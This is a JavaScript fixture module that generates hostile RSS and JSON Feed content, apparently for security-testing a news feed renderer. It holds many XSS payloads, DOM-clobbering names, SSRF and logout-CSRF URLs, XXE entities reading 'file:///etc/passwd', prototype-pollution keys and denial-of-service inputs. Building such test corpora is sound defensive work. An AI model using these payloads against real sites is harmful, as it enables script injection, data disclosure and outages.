/* What a hostile newsroom writes into its feeds. Not a test. */
/* eslint no-script-url: "off" -- addresses that must not come through */
import { feedOf } from "../helpers/hostile-newsroom.mjs";

/**
 * @typedef {object} World Origins that a newsroom may name. `mark` is a word that says which part of a page, or which
 *   program, reads the feed. Every address and every script contains it.
 * @property {string} newsroom
 * @property {string} host The site that shows the news.
 * @property {string} internal A service that only the host's network can reach.
 * @property {(name: string) => string} stranger Any number of sites that nobody has named.
 * @property {string} mark
 */

/** Script that raises an alarm in the page. */
const alarm = ({ mark }) => `alarm("${mark}")`;

/** Names that must not become names in the page. */
export const clobbering = ["evilname", "alarm", "documentElement", "currentScript", "customElements"];

/** Markup in which something runs, requests, submits, covers or clobbers. `s` is a stranger, `h` the host. */
const markup = (world) => {
  const run = alarm(world).replaceAll('"', "'");
  const s = `${world.stranger("media")}/${world.mark}`;
  const h = `${world.host}/logout/${world.mark}`;
  return [
    `<script>${run}</script><script src="${s}/script.js"></script><script type="module">${run}</script>`,
    `<script type="speculationrules">{"prefetch":[{"urls":["${s}/rules"]}]}</script>`,
    `<img src="x" onerror="${run}"><img src=x onerror=${run}//><svg onload="${run}"></svg>`,
    `<svg><script>${run}</script><image href="${s}/svg" xlink:href="${s}/xlink"/><use href="${s}/use#a"/></svg>`,
    `<svg><style><!--</style><img src=x onerror="${run}">--></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;"></table></math>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${run}">`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    `<iframe src="javascript:${run}"></iframe><iframe src="${s}/frame"></iframe><iframe src="${h}/frame"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe><frameset onload="${run}"><frame src="${s}/f"></frameset>`,
    `<object data="javascript:${run}"></object><object data="${s}/object"></object><embed src="${s}/embed">`,
    `<details open ontoggle="${run}">More</details><marquee onstart="${run}">x</marquee>`,
    `<input autofocus onfocus="${run}"><x tabindex=1 autofocus onfocus="${run}">x</x><select autofocus onfocus="${run}"></select>`,
    `<video autoplay src="${s}/video" poster="${s}/poster" onerror="${run}"><source src="${s}/source" onerror="${run}"><track default src="${s}/track"></video>`,
    `<audio autoplay src="${s}/audio" onerror="${run}"></audio><bgsound src="${s}/bgsound">`,
    `<a href="javascript:${run}">a</a><a href="java\tscript:${run}">b</a><a href="&#1;javascript:${run}">c</a><a href="data:text/html,<script>${run}</script>">d</a><a href="vbscript:x">e</a><a href="blob:${world.host}/1">f</a>`,
    `<a ping="${s}/ping" download="evil.exe" target="evilwindow" href="${world.newsroom}/${world.mark}/page">g</a>`,
    `<template><script>${run}</script></template><div><template shadowrootmode="open"><img src="${s}/shadow"><slot></slot></template></div>`,
    `<style>@import "${s}/import.css";*{background:url(${s}/style)}:host{display:none!important}</style><p style="position:fixed;inset:0;z-index:9999;background:url(${s}/inline)">x</p>`,
    `<link rel="stylesheet" href="${s}/style.css"><link rel="prefetch" href="${s}/prefetch"><link rel="preconnect" href="${s}"><link rel="dns-prefetch" href="${s}"><link rel="modulepreload" href="${s}/module.js"><link rel="preload" as="image" href="${s}/preload"><link rel="manifest" href="${s}/manifest"><link rel="icon" href="${s}/icon">`,
    `<meta http-equiv="refresh" content="0;url=${s}/refresh"><meta http-equiv="set-cookie" content="evil=1"><meta name="referrer" content="unsafe-url"><meta http-equiv="content-security-policy" content="default-src 'none'"><base href="${s}/base/" target="evilwindow">`,
    `<img src="${s}/img" alt="a"><img srcset="${s}/srcset 1x" alt="b"><picture><source srcset="${s}/picture"><img src="${s}/in-picture" alt="c"></picture><img lowsrc="${s}/lowsrc" dynsrc="${s}/dynsrc">`,
    `<table background="${s}/table"><td background="${s}/td">x</td></table><body background="${s}/body"><input type="image" src="${s}/input">`,
    `<form action="${h}/form" method="post"><input name="a" value="1"><button autofocus>Go</button></form><button formaction="${h}/button" form="evilname">x</button><isindex action="${h}/isindex">`,
    `<dialog open>x</dialog><div popover="manual" id="evilname">x</div><button popovertarget="evilname">x</button>`,
    ...clobbering.map(
      (name) =>
        `<a id="${name}" name="${name}">n</a><img name="${name}" alt=""><form id="${name}" name="${name}"></form>`,
    ),
    `<press-release src="${s}/nested" release-id="x"></press-release><press-list src="${h}/nested"></press-list><subscribe-form action="${s}/nested"></subscribe-form><p is="press-list" src="${s}/is">x</p>`,
    `<div data-bs-toggle="modal" hx-get="${s}/hx" hx-trigger="load" v-on:click="${run}" x-data x-init="${run}" @click="${run}">{{constructor.constructor('${run}')()}}</div>`,
    `<portal src="${s}/portal"></portal><fencedframe src="${s}/fenced"></fencedframe><applet code="${s}/applet"></applet><layer src="${s}/layer"></layer>`,
  ].join("\n");
};

/** Requests to the host, with the reader's cookies, by what looks like media. */
const ownMedia = (world) => {
  const h = `${world.host}/logout/${world.mark}`;
  const relative = `/logout/${world.mark}/relative`;
  return {
    image: `${h}/image`,
    banner_image: `${h}/banner`,
    content_html: `<p>Text</p><img src="${h}/img" alt="a" width="300" height="200"><img src="${relative}" alt="b" width="300" height="200"><img srcset="${h}/srcset 1x" src="${h}/src" alt="c" width="300" height="200"><figure><img src="../../logout/${world.mark}/up" alt="d" width="300" height="200"></figure><video controls src="${h}/video" poster="${h}/poster"></video><audio controls src="${h}/audio"></audio>`,
    attachments: [
      { url: `${h}/attachment.jpg`, mime_type: "image/jpeg", title: "A" },
      { url: `${h}/attachment.mp4`, mime_type: "video/mp4", title: "B" },
    ],
    _newsroom: {
      images: [
        { url: `${h}/newsroom-image`, alt: "e" },
        { url: relative, alt: "f" },
      ],
      contacts: [{ name: "C", image: `${h}/contact`, email: "c@n.example" }],
      publisher: { name: "P", logo: `${h}/logo`, image: `${h}/publisher` },
    },
  };
};

/** A value for a field of text. */
const tag = (world) =>
  `<img src="${world.stranger("text")}/${world.mark}" onerror='${alarm(world)}'>${"\u202e\u0000\u001b[31m"}`;

const badAddresses = (world) => [
  `javascript:${alarm(world)}`,
  `java\nscript:${alarm(world)}`,
  `data:text/html,<script>${alarm(world)}</script>`,
  `file:///etc/passwd`,
  `blob:${world.host}/1`,
  `//${new URL(world.stranger("address")).host}/${world.mark}`,
  `${world.host}/logout/${world.mark}/address`,
  `http://user:password@${new URL(world.stranger("login")).host}/${world.mark}`,
  "http://[",
  "\\\\evil\\share",
];

/** A feed whose next page is somewhere else. */
const nextAt = (address) => (world) => ({ next: address(world), items: [{}] });

/**
 * Feeds, by name: what is in them (as in JSON Feed; an item without id is "Hostile") or their text, the finding that they
 * try, and the only ways for which they mean something. `onlyPolicy`: only a policy of the page's prevents this.
 */
export const contents = {
  "markup in a text": { feed: (world) => ({ items: [{ content_html: markup(world) }] }) },
  "markup in a lead and a boilerplate": {
    feed: (world) => ({ items: [{ summary: markup(world), _newsroom: { boilerplate: markup(world) } }] }),
  },
  "markup in every field": {
    feed: (world) => ({
      title: tag(world),
      description: tag(world),
      items: [
        {
          title: `Hostile ${tag(world)}`,
          summary: tag(world),
          language: tag(world),
          tags: [tag(world)],
          authors: [{ name: tag(world), url: tag(world), avatar: tag(world) }],
          attachments: [{ url: `${world.newsroom}/a.pdf`, mime_type: tag(world), title: tag(world) }],
          date_published: "2025-07-04T11:00:00Z",
          _newsroom: {
            type: tag(world),
            place: tag(world),
            contacts: [{ name: tag(world), role: tag(world), phone: tag(world), email: tag(world) }],
            images: [
              {
                url: `${world.newsroom}/${world.mark}/a.jpg`,
                alt: tag(world),
                caption: tag(world),
                credit: tag(world),
              },
            ],
            notice: { kind: "correction", text: tag(world), date: tag(world) },
          },
        },
      ],
    }),
  },
  "bad addresses in every field": {
    feed: (world) => ({
      link: badAddresses(world)[0],
      items: badAddresses(world).map((url, index) => ({
        id: index ? `Hostile ${index}` : "Hostile",
        title: `Hostile ${index}`,
        url,
        image: url,
        authors: [{ name: "A", url, avatar: url }],
        attachments: [{ url, mime_type: "application/pdf", title: "A" }],
        content_html: `<p><a href="${url.replaceAll('"', "&quot;")}">A link</a></p>`,
        _newsroom: {
          images: [{ url, alt: "" }],
          links: [{ url, title: "L" }],
          translations: [{ language: "en", url, title: "T" }],
          contacts: [{ name: "C", phone: "javascript:1", email: `a@b.example?bcc=${url}`, image: url }],
          publisher: { name: "P", url, logo: url },
        },
      })),
    }),
  },
  "media at the host": { finding: 4, feed: (world) => ({ items: [ownMedia(world)] }) },
  "images that redirect to the host": {
    finding: 4,
    onlyPolicy: true,
    feed: ({ newsroom, mark }) => ({
      items: [
        {
          image: `${newsroom}/${mark}/to-host`,
          content_html: `<p>Text</p><img src="${newsroom}/${mark}/to-host" alt="a" width="300" height="200">`,
        },
      ],
    }),
  },
  "a next page at a stranger": {
    finding: 5,
    feed: nextAt((world) => `${world.stranger("next-1")}/${world.mark}/chain`),
  },
  "pages without end": { finding: 5, feed: nextAt((world) => `${world.newsroom}/${world.mark}/chain`) },
  "a next page at the host": {
    finding: 5,
    feed: nextAt((world) => `${world.host}/logout/${world.mark}/next`),
  },
  "a next page at an internal service": {
    finding: 5,
    feed: nextAt((world) => `${world.internal}/${world.mark}/next`),
  },
  "the name of another feed's release": {
    finding: 6,
    only: ["several"],
    feed: (world) => ({
      items: [
        {
          id: "Ministry",
          title: "What a stranger says",
          url: `${world.newsroom}/other`,
          date_published: "2026-01-01",
        },
      ],
    }),
  },
  "the address of another feed's release": {
    finding: 6,
    only: ["several"],
    feed: (world) => ({
      items: [
        {
          id: "Other",
          title: "What a stranger says",
          url: `${world.ministry}/release/Ministry`,
          date_published: "2026-01-01",
        },
      ],
    }),
  },
  "names of an object's members": {
    finding: 8,
    feed: () => ({
      items: ["constructor", "__proto__", "toString", "hasOwnProperty", "valueOf"].map((name, index) => ({
        id: index ? name : "Hostile",
        title: `Hostile ${name}`,
        language: name,
        tags: [name],
        attachments: [{ url: "https://n.example/file", mime_type: name, title: name }],
        _newsroom: { type: name, notice: { kind: name, text: name } },
      })),
    }),
  },
  "keys that pollute": {
    finding: 8,
    json: (world) =>
      `{"__proto__":{"polluted":1,"items":[]},"constructor":{"prototype":{"polluted":1}},"version":"https://jsonfeed.org/version/1.1","title":"News","items":[{"__proto__":{"polluted":1,"url":"javascript:${alarm(world).replaceAll('"', "'")}"},"constructor":{"prototype":{"polluted":1}},"id":"Hostile","title":"Hostile","_newsroom":{"__proto__":{"polluted":1},"images":[{"__proto__":{"url":"${world.stranger("proto")}/${world.mark}"}}]}}]}`,
  },
  "values of wrong types": {
    json: () =>
      `{"version":"https://jsonfeed.org/version/1.1","title":{"a":1},"items":[{"id":{"toString":1},"title":["Hostile"],"url":7,"content_html":{"_$litType$":1,"strings":["<img>"],"values":[]},"tags":{"length":1e9},"attachments":"x","image":[[]],"authors":[null,[],7],"date_published":1e400},null,7,"x",[],{"id":"Hostile","title":"Hostile"}]}`,
  },
  "nested JSON": { json: () => `{"items":${"[".repeat(100_000)}${"]".repeat(100_000)}}` },
  "entities of XML": {
    xml: (world) =>
      `<?xml version="1.0"?><!DOCTYPE rss SYSTEM "${world.internal}/${world.mark}/dtd" [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e SYSTEM "${world.internal}/${world.mark}/entity"><!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % g SYSTEM "${world.stranger("dtd")}/${world.mark}"> %g;]><rss version="2.0"><channel><title>News</title><item><guid>Hostile</guid><title>Hostile</title><description>&d;&e;&f;</description></item></channel></rss>`,
  },
  "other files in XML": {
    xml: (world) =>
      feedOf(
        `<x:script xmlns:x="http://www.w3.org/1999/xhtml">top.${alarm(world)}</x:script><x:img xmlns:x="http://www.w3.org/1999/xhtml" src="${world.stranger("xhtml")}/${world.mark}" onerror='top.${alarm(world)}'/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${world.internal}/${world.mark}/include"/><item><guid>Hostile</guid><title>Hostile</title></item>`,
        {
          prolog: `<?xml-stylesheet type="text/xsl" href="${world.host}/logout/${world.mark}/xsl"?><?xml-stylesheet type="text/css" href="${world.stranger("css")}/${world.mark}"?>`,
        },
      ),
  },
};

/** Feeds that take long to read or to show, unless that is prevented. They are smaller than 5 MB. */
export const slowContents = {
  "200,000 spaces in a tag": {
    feed: () => ({
      items: [
        { content_html: `<img src=${" ".repeat(200_000)}`, summary: `<img src=${" ".repeat(200_000)}` },
      ],
    }),
  },
  "50,000 quotes in JSON that is cut off": {
    json: () =>
      `{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"Hostile","title":"${'\\"'.repeat(50_000)}`,
  },
  "390 open tags before 1,000 paragraphs": {
    feed: () => ({
      items: [
        {
          content_html:
            Array.from({ length: 390 }, (_, n) => `<b class="${n}">`).join("") + "<p>x".repeat(1000),
        },
      ],
    }),
  },
  "100 contacts with 10,000 @": {
    feed: () => ({
      items: [
        {
          _newsroom: {
            contacts: Array.from({ length: 100 }, () => ({ name: "A", email: "@".repeat(10_000) })),
          },
        },
      ],
    }),
  },
  "2,700 cells of 50 columns and 200 rows": {
    feed: () => ({
      items: [
        {
          content_html: `<table>${`<tr>${'<td colspan="50" rowspan="200">x</td>'.repeat(27)}</tr>`.repeat(100)}</table>`,
        },
      ],
    }),
  },
  "250,000 combining marks": { feed: () => ({ items: [{ title: `Hostile a${"\u0301".repeat(250_000)}` }] }) },
  "100,000 categories": {
    feed: () => ({ items: [{ tags: Array.from({ length: 100_000 }, (_, n) => `Category ${n}`) }] }),
  },
  "2,990 links to one name": {
    feed: () => ({
      items: [{ content_html: `<p id="n">x</p>${'<a href="#n">x</a>'.repeat(2990)}` }],
    }),
  },
  "4.8 MB of releases": {
    feed: () => ({
      items: Array.from({ length: 900 }, (_, index) => ({
        id: `Hostile ${index}`,
        content_html: "<p>The minister <b>said</b> &quot;yes&quot; to <a href='/a'>trade</a>.</p>".repeat(70),
      })),
    }),
  },
  "20,000 small items": {
    feed: () => ({ items: Array.from({ length: 20_000 }, (_, index) => ({ id: `Hostile ${index}` })) }),
  },
  "4.8 MB of &amp; in a lead": { xml: () => rssOf(`<description>${"&amp;".repeat(960_000)}</description>`) },
  "4.8 MB of <b> in a lead": { xml: () => rssOf(`<description>${"<b>".repeat(1_600_000)}</description>`) },
  "4.8 MB of < and line breaks in a text": {
    json: () => writeJson({ items: [{ content_text: "<&\n".repeat(1_200_000) }] }),
  },
  "4.8 MB of links": { feed: () => ({ items: [{ content_html: "<a href=/a>".repeat(440_000) }] }) },
  "4.8 MB of references of the DTD": {
    xml: () =>
      `<!DOCTYPE rss [<!ENTITY e "value">]>${rssOf(`<description>${"&e;".repeat(1_600_000)}</description>`)}`,
  },
  "48 categories of 100,000 characters": {
    xml: () => rssOf(`<category>${"&lt;b&gt;".repeat(11_000)}</category>`.repeat(48)),
  },
  "800,000 nested items": { xml: () => `<rss><channel>${"<item>".repeat(800_000)}` },
  "500,000 Arabic letters without a space": {
    feed: () => ({ items: [{ content_html: `<p>${"ك".repeat(500_000)}</p>` }] }),
  },
  "7,900 Arabic letters without a space": {
    feed: () => ({ items: [{ content_html: `<p>${"ك".repeat(7900)}</p>` }] }),
  },
  "7,900 changes of direction": {
    feed: () => ({ items: [{ content_html: `<p>${"aب".repeat(3950)}</p>` }] }),
  },
  "10,000 changes of direction in a lead": {
    feed: () => ({
      items: [{ summary: "aب".repeat(5000) }, { id: "Untitled", title: "", summary: "aب".repeat(5000) }],
    }),
  },
  "250,000 changes of direction": {
    feed: () => ({ items: [{ content_html: `<p>${"aب".repeat(250_000)}</p>` }] }),
  },
  "250,000 lines in <pre>": {
    feed: () => ({ items: [{ content_html: `<pre>${"x\n".repeat(250_000)}</pre>` }] }),
  },
};

/** A feed with one item, as it is written in XML. */
const rssOf = (content) =>
  `<rss version="2.0"><channel><title>News</title><item><guid isPermaLink="false">Hostile</guid>` +
  `<title>Hostile</title><pubDate>Fri, 04 Jul 2025 11:00:00 GMT</pubDate>${content}</item></channel></rss>`;

const escapeXml = (text) =>
  String(text)
    .replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/gu, "")
    .replaceAll("&", "&amp;")
    .replaceAll("<", "&lt;")
    .replaceAll('"', "&quot;");

const element = (name, text) => (text === undefined ? "" : `<${name}>${escapeXml(text)}</${name}>`);

const itemOf = (item) => ({
  id: "Hostile",
  title: "Hostile",
  date_published: "2025-07-04T11:00:00Z",
  ...item,
});

const writeRss = ({ title = "News", link = "https://n.example/", description, next, items }) =>
  `<?xml version="1.0" encoding="utf-8"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:media="http://search.yahoo.com/mrss/" xmlns:atom="http://www.w3.org/2005/Atom"><channel>` +
  element("title", title) +
  element("link", link) +
  element("description", description) +
  (next ? `<atom:link rel="next" href="${escapeXml(next)}"/>` : "") +
  `<image><url>${escapeXml(items[0].image ?? link)}</url></image>` +
  items
    .map(itemOf)
    .map(
      (item) =>
        `<item>${element("guid", item.id)}${element("title", item.title)}${element("link", item.url)}${element("description", item.summary)}${element("pubDate", new Date(item.date_published).toUTCString())}${element("content:encoded", item.content_html)}` +
        (item.tags ?? []).map((name) => element("category", name)).join("") +
        (item.attachments ?? [])
          .map(
            ({ url, mime_type }) =>
              `<enclosure url="${escapeXml(url)}" type="${escapeXml(mime_type)}" length="1"/>`,
          )
          .join("") +
        (item.image
          ? `<media:content url="${escapeXml(item.image)}" medium="image"/><media:thumbnail url="${escapeXml(item.image)}"/>`
          : "") +
        `</item>`,
    )
    .join("") +
  `</channel></rss>`;

const writeJson = ({ title = "News", link = "https://n.example/", next, items, ...rest }) =>
  JSON.stringify({
    version: "https://jsonfeed.org/version/1.1",
    title,
    home_page_url: link,
    ...(next && { next_url: next }),
    ...rest,
    items: items.map(itemOf),
  });

/** The texts of a feed, by format. */
export function textsOf({ feed, json, xml }, world) {
  const parts = feed?.(world);
  return {
    ...(parts && { RSS: writeRss(parts), "JSON Feed": writeJson(parts) }),
    ...(json && { "JSON Feed": json(world) }),
    ...(xml && { RSS: xml(world) }),
  };
}

/** Page `number` of a feed whose next page is at the next stranger, or at one site. */
export const chainedFeed = (world, site, number) =>
  writeJson({
    items: [{ id: `Chained ${number}` }],
    next: `${site ?? world.stranger(`next-${number + 1}`)}/${world.mark}/chain?n=${number}`,
  });
